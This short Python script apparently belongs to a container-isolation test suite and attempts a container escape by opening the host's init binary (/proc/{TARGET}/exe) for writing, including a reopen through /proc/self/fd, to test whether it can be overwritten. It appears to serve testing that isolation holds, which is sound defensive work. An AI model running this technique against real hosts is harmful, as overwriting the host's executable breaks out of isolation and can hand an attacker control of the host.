"""Overwrite the program that the host runs (/proc/1/exe)."""

from __future__ import annotations

import os

from inside import TARGET, attempt, hold

path = attempt(os.open, f"/proc/{TARGET}/exe", os.O_PATH)
kept = [attempt(os.open, f"/proc/{TARGET}/exe", os.O_WRONLY)]
if path is not None:
    kept.append(attempt(os.open, f"/proc/self/fd/{path}", os.O_RDWR))
hold(kept)
